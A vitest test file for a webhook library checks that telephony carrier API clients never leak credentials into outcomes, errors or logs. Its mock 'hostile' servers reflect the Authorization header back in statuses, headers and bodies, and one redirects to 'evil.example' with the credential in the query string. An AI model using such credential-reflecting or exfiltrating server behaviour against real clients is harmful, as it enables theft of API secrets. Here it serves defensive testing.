import { inspect } from "node:util";
import { createHookswitch } from "@hookswitch/core";
import { bandwidth } from "@hookswitch/core/bandwidth";
import { bandwidthApi } from "@hookswitch/core/bandwidth/api";
import { freeclimb } from "@hookswitch/core/freeclimb";
import { freeclimbApi } from "@hookswitch/core/freeclimb/api";
import { plivo } from "@hookswitch/core/plivo";
import { plivoApi } from "@hookswitch/core/plivo/api";
import { signalwire } from "@hookswitch/core/signalwire";
import { signalwireApi } from "@hookswitch/core/signalwire/api";
import { telnyx } from "@hookswitch/core/telnyx";
import { telnyxApi } from "@hookswitch/core/telnyx/api";
import { sampleDelivery } from "@hookswitch/core/testing";
import { twilio } from "@hookswitch/core/twilio";
import { twilioApi } from "@hookswitch/core/twilio/api";
import { vonage } from "@hookswitch/core/vonage";
import { vonageApi } from "@hookswitch/core/vonage/api";
import { describe, expect, it, onTestFinished, vi } from "vitest";
import { PUBLIC_URL } from "../scripts/testing/send.js";
import { CREDENTIALS, carriers, credentialsIn, withTokens } from "./media/carriers.js";
import { type Answer, startOrigins } from "./media/origin.js";

/** Everything that a process writes. */
function watchOutput(): string[] {
  const written: string[] = [];
  const keep = (...given: unknown[]) => {
    written.push(inspect(given, { depth: 20 }));
    return true;
  };
  const console_ = (["log", "info", "warn", "error", "debug"] as const).map((name) =>
    vi.spyOn(console, name).mockImplementation(keep),
  );
  const streams = [process.stdout, process.stderr].map((stream) => vi.spyOn(stream, "write").mockImplementation(keep));
  const warnings = vi.spyOn(process, "emitWarning").mockImplementation(keep as never);
  onTestFinished(() => {
    for (const spy of [...console_, ...streams, warnings]) spy.mockRestore();
  });
  return written;
}

/** Every way in which somebody may print a thing. */
function shown(thing: unknown): string[] {
  const texts = [
    inspect(thing, { depth: 20, showHidden: true, getters: true }),
    String(thing),
    JSON.stringify(thing) ?? "",
  ];
  if (thing instanceof Error) texts.push(thing.stack ?? "", thing.message, ...(thing.cause ? shown(thing.cause) : []));
  return texts;
}

/** What a server may do with the credentials it was sent. */
const hostile: [how: string, answer: Answer][] = [
  ...[200, 206, 400, 401, 403, 404, 429, 500].map((status): [string, Answer] => [
    `reflects the request with ${status}`,
    ({ headers, text }, response) => {
      const said = String(headers.authorization);
      const more = { "content-type": "application/json", "retry-after": said, "content-range": said, etag: said };
      response.writeHead(status, said.replace(/[^\w ]/g, "."), more);
      response.end(JSON.stringify({ type: said, code: said, description: text, error: { headers }, details: text }));
    },
  ]),
  [
    "redirects to a URL that holds it",
    ({ headers }, response) =>
      response
        .writeHead(302, { location: `https://evil.example/?a=${encodeURIComponent(String(headers.authorization))}` })
        .end(),
  ],
  [
    "names it as its content type",
    ({ headers }, response) => response.writeHead(200, { "content-type": String(headers.authorization) }).end("x"),
  ],
  ["claims audio", ({ text }, response) => response.writeHead(200, { "content-type": "audio/wav" }).end(text)],
  ["hangs up", (_, response) => response.destroy()],
  ["breaks HTTP", ({ headers }, response) => void response.socket?.end(`HTTP/1.1 ${headers.authorization}\r\n\r\n`)],
  [
    "breaks off",
    ({ text }, response) => {
      response.writeHead(200, { "content-type": "application/json", "content-length": 9999 });
      response.write(text, () => response.destroy());
    },
  ],
];

describe.each(carriers)("$name", ({ api, ref }) => {
  it.each(hostile)("S21 no credential is in an outcome, an error or a log when the server %s", async (_, answer) => {
    const written = watchOutput();
    const home = await startOrigins(withTokens(answer));
    const used = api(home.http) as ReturnType<typeof bandwidthApi>;
    const event = ref(home.http);
    const controller = new AbortController();
    const came: unknown[] = [used, event];
    const attempts = [
      () => used.openRecording(event),
      () => used.openRecording(event, { from: 10 }),
      () => used.deleteRecording(event),
      // Vonage has no list.
      () => used.listRecordings?.().next(),
      () => used.getTranscript?.(event),
      () => used.openRecording({ ...event, accountId: "another" }),
      () => used.openRecording(event, { signal: AbortSignal.abort() }),
      () => used.openRecording(event, { signal: controller.signal, maxBytes: 1 }),
    ];
    for (const attempt of attempts) {
      const outcome = await Promise.resolve(attempt()).catch((error: unknown) => error);
      came.push(outcome);
      const stream = (outcome as { stream?: ReadableStream } | null)?.stream;
      if (stream)
        came.push(
          await new Response(stream).arrayBuffer().then(
            () => "read",
            (error: unknown) => error,
          ),
        );
    }
    const all = [...came.flatMap(shown), ...written].join("\n");
    expect(all.length).toBeGreaterThan(500);
    expect(home.seen.some(({ text }) => credentialsIn(text).length > 0)).toBe(true);
    expect(credentialsIn(all)).toEqual([]);
  });
});

it("S21 no credential is in what a receiver tells of a callback that failed to open", async () => {
  const written = watchOutput();
  const home = await startOrigins(withTokens((_, response) => response.writeHead(403).end()));
  const [side] = carriers;
  const told: unknown[] = [];
  const given = {
    publicUrl: PUBLIC_URL,
    carriers: [
      bandwidth({
        username: "user",
        password: "pass-word-1",
        api: side?.api(home.http) as ReturnType<typeof bandwidthApi>,
      }),
    ],
    onRecordingAvailable: async (_: unknown, { openRecording }: { openRecording(): Promise<unknown> }) => {
      const outcome = await openRecording();
      told.push(outcome);
      throw new Error("not opened", { cause: outcome });
    },
  };
  const { method, url, headers, body } = await sampleDelivery("bandwidth", "recordingAvailable", {
    url: `${PUBLIC_URL}/webhooks/recordings/bandwidth`,
    secrets: [{ username: "user", password: "pass-word-1" }],
    overrides: { accountId: "55", callId: "c-1", recordingId: "r-1" },
  });
  // Once with `onError`, once with the logger that is there when nobody chose one.
  for (const more of [{ onError: (...error: unknown[]) => void told.push(...error) }, {}]) {
    const hooks = createHookswitch({ ...given, ...more });
    told.push(hooks, await hooks.handle({ method, url: new URL(url).pathname, headers, body }));
  }
  expect(told.length).toBeGreaterThan(5);
  expect(written.length).toBeGreaterThan(0);
  expect(credentialsIn([...told.flatMap(shown), ...written].join("\n"))).toEqual([]);
});

it("S21 no credential is in what is thrown at construction", () => {
  const { clientSecret, apiKey, authToken, apiKeySecret, apiToken, telnyxKey, privateKey } = CREDENTIALS;
  const wrong: (() => unknown)[] = [
    () => bandwidthApi({ clientId: "", clientSecret }),
    () => bandwidthApi({ clientId: "c", clientSecret: ` ${clientSecret}` }),
    () => bandwidthApi({ clientId: "c", clientSecret, baseUrl: `https://user:${clientSecret}@voice.example` }),
    () => freeclimbApi({ accountId: "A/C", apiKey }),
    () => freeclimbApi({ accountId: "AC1", apiKey: `${apiKey}\n` }),
    () => plivoApi({ authId: "MA-1", authToken }),
    () => plivoApi({ authId: "MA1", authToken: `\t${authToken}` }),
    () => plivoApi({ authId: "MA1", authToken, mediaHosts: [`user:${authToken}@media.example`] }),
    () => freeclimb({ signingSecret: ` ${apiKey}`, api: freeclimbApi({ accountId: "AC1", apiKey }) }),
    () => plivo({ authToken: ` ${authToken}`, api: plivoApi({ authId: "MA1", authToken }) }),
    () => twilioApi({ accountSid: "A/C", authToken }),
    () => twilioApi({ accountSid: "AC1", apiKey, apiKeySecret: `${apiKeySecret} ` }),
    () => twilioApi({ accountSid: "AC1", authToken, baseUrl: `https://user:${authToken}@api.example` }),
    () => twilio({ authToken: [authToken, ` ${authToken}`] }),
    () => signalwireApi({ space: `user:${apiToken}@x`, projectId: "p-1", apiToken }),
    () => signalwire({ signingKey: `${apiToken}\n` }),
    () => telnyxApi({ apiKey: ` ${telnyxKey}` }),
    () => telnyx({ publicKey: telnyxKey }),
    () => vonageApi({ applicationId: "app-1", privateKey }),
    () => vonageApi({ applicationId: "app-1", privateKey: `-----BEGIN RSA PRIVATE KEY-----\n${privateKey}` }),
    () => vonage({ signatureSecret: `-----BEGIN PRIVATE KEY-----\n${privateKey}` }),
    () => vonage({ signatureSecret: ` ${authToken}` }),
  ];
  for (const construct of wrong) {
    let thrown: unknown;
    try {
      construct();
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(TypeError);
    expect(credentialsIn(shown(thrown).join("\n"))).toEqual([]);
  }
});
